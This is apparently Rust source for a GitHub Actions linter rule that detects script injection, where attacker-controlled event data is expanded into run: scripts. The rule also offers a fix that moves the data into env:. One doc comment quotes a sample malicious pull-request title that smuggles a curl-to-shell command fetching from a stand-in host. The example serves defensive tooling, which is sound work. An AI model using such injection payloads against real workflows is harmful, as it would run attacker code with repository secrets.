use super::*;
use crate::parse::expr;

declare_rule! {
    /// ## What it checks
    /// An expression that reads attacker-controlled data —
    /// `github.event.issue.title`, `pull_request.title/body/head.ref`,
    /// comment and review bodies, commit messages and authors,
    /// `github.head_ref`, `workflow_run.head_branch`, … — expanded inside a
    /// `run:` script or the `script:` of `actions/github-script`. Inside a
    /// composite action, `inputs.*` expanded in `run:` is a warning: the
    /// caller may pass such data.
    ///
    /// ## Why it matters in production
    /// `${{ }}` is substituted into the script text before the shell runs
    /// it. A pull request titled `"; curl evil.sh | sh #` then runs code in
    /// your runner, with your secrets and token.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## Fix
    /// Unsafe: moves a bare context expression of a `run:` script into the
    /// step's `env:` (`ISSUE_TITLE: ${{ github.event.issue.title }}`) and
    /// uses `${ISSUE_TITLE}` in the script, keeping the file's indentation.
    /// Unsafe because the value is no longer pasted as code: a script that
    /// relied on that (or on word splitting) behaves differently. Not
    /// offered inside single quotes, in `github-script`, or for flow-style
    /// steps.
    ///
    /// ## References
    /// - [GitHub: understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    pub struct ScriptInjection {
        code: "GH007",
        name: "script-injection",
        severity: Error,
        tags: ["security"],
        security_severity: "9.0",
        fix: Unsafe,
        summary: "attacker-controlled data is expanded into a script",
    }
}

/// The environment variable a context moves to: its last two segments,
/// upper-cased (`github.event.issue.title` -> `ISSUE_TITLE`,
/// `github.head_ref` -> `HEAD_REF`).
fn env_name(context: &str) -> String {
    // `GITHUB_*` names are reserved by the runner: drop the `github.event` prefix.
    let segments: Vec<&str> = context
        .split('.')
        .filter(|s| *s != "*")
        .skip_while(|s| *s == "github" || *s == "event")
        .collect();
    let tail = &segments[segments.len().saturating_sub(2)..];
    tail.join("_")
        .to_ascii_uppercase()
        .replace(|c: char| !c.is_ascii_alphanumeric(), "_")
}

/// Is `offset` inside single quotes on its line (where `$VAR` does not expand)?
fn in_single_quotes(text: &str, line_start: usize, offset: usize) -> bool {
    let mut single = false;
    let mut double = false;
    for c in text.get(line_start..offset).unwrap_or("").chars() {
        match c {
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            _ => {}
        }
    }
    single
}

/// Moves the expression into the step's `env:` and uses the variable: the
/// edits, when the step is in block style and the expression is a bare
/// context in a `run:` script.
fn move_to_env(
    cx: &WorkflowContext<'_>,
    step: &Step<'_>,
    e: &expr::Expression,
    context: &str,
) -> Option<Vec<Edit>> {
    let file = cx.file;
    step.run?;
    if e.inner.to_ascii_lowercase() != context {
        return None;
    }
    let line_start = file
        .lines
        .line_start(file.lines.line_of(e.span.start), &file.text);
    if in_single_quotes(&file.text, line_start, e.span.start) {
        return None;
    }
    let name = env_name(context);
    let setting = format!("{name}: ${{{{ {} }}}}", e.inner);
    let mut edits = vec![Edit::replace(e.span, format!("${{{name}}}"))];
    match step.node.entry("env") {
        Some(env) => {
            let present = env
                .value
                .as_map()?
                .iter()
                .any(|x| x.key.as_str() == Some(name.as_str()));
            if !present {
                edits.push(yaml_edit::insert_first_entry(file, env, &setting)?);
            }
        }
        None => edits.push(yaml_edit::append_block(
            file,
            step.node,
            step.node.entry("run")?,
            "env",
            &setting,
        )?),
    }
    Some(edits)
}

impl Rule for ScriptInjection {
    impl_meta!();

    fn workflow(&self, cx: &WorkflowContext<'_>, out: &mut Findings) {
        let composite = cx
            .action
            .is_some_and(|a| a.using.as_ref().is_some_and(|u| u.text == "composite"));
        for step in cx.steps() {
            let Some(script) = script_node(step) else {
                continue;
            };
            for e in expr::find(&cx.file.text, script.span) {
                let (context, severity, message) = if let Some(c) =
                    e.contexts.iter().find(|c| is_untrusted(c))
                {
                    (
                        c,
                        Severity::Error,
                        format!(
                            "`{c}` is chosen by whoever opens the issue or pull request, and is pasted into the script"
                        ),
                    )
                } else if composite
                    && let Some(c) = e.contexts.iter().find(|c| c.starts_with("inputs."))
                {
                    (
                        c,
                        Severity::Warning,
                        format!(
                            "`{c}` is pasted into the script; a caller may pass untrusted data"
                        ),
                    )
                } else {
                    continue;
                };
                let b = out
                    .report(&Self::META, e.span, message)
                    .severity(severity)
                    .help("pass it through `env:` and use the variable, quoted, in the script");
                if let Some(edits) = move_to_env(cx, step, &e, context) {
                    b.fix(
                        Applicability::Unsafe,
                        format!("move it to `env: {}`", env_name(context)),
                        edits,
                    );
                }
            }
        }
    }
}
